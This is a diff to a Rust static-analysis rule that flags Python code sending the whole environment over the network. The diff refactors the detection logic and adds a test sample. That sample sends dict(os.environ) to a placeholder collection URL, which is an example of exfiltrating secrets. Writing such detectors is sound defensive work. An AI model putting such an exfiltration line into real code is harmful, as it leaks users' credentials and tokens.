@@ -3,7 +3,7 @@
 use crate::finding::{Confidence, Severity};
 use crate::scan::code::Unit;
 use crate::scan::operation::{Act, Origins};
-use crate::scan::rule::{Check, Circumstance, Reporter, Rule, Sample};
+use crate::scan::rule::{Check, Reporter, Rule, Sample};
 
 /// The rule.
 pub static RULE: Rule = Rule {
@@ -30,6 +30,10 @@ pub static RULE: Rule = Rule {
         Sample::File(
             "scripts/a.py",
             "import os, requests\nprint(dict(os.environ))\nrequests.get(input())\n",
+        ),
+        Sample::File(
+            "scripts/a.py",
+            "import os\nfrom lib import send\nsend('https://collect.example.com/in', dict(os.environ))\n",
         ),
     ],
     misses: &[
@@ -60,7 +64,8 @@ pub static RULE: Rule = Rule {
 fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
     let operations = super::operations(unit);
     let sent = super::sends(unit, Origins::ENVIRONMENT);
-    if !sent && !operations.iter().any(super::reaches_out) {
+    let outlet = super::Outlet::of(unit);
+    if !sent && outlet.is_none() {
         return;
     }
     let mut told = false;
@@ -72,25 +77,20 @@ fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
         {
             told = true;
             let raised = reporter.raise(operation.span);
-            if !sent {
+            if let Some(outlet) = outlet.filter(|_| !sent) {
                 raised
-                    .message("Python takes the whole environment in a file that uses the network")
+                    .message(
+                        "Python takes the whole environment in a file that reaches the network",
+                    )
                     .confidence(Confidence::Medium)
-                    .because(Circumstance::Unconnected);
+                    .because(outlet.circumstance());
             }
         }
     }
     // The environment came from somewhere else, such as the program `env`.
     if sent && !told {
-        for operation in operations {
-            if let Act::Contact {
-                address, payload, ..
-            } = &operation.act
-                && (payload.origins.has(Origins::ENVIRONMENT)
-                    || address.origins.has(Origins::ENVIRONMENT))
-            {
-                reporter.raise(operation.span);
-            }
+        for span in super::senders(unit, Origins::ENVIRONMENT) {
+            reporter.raise(span);
         }
     }
 }
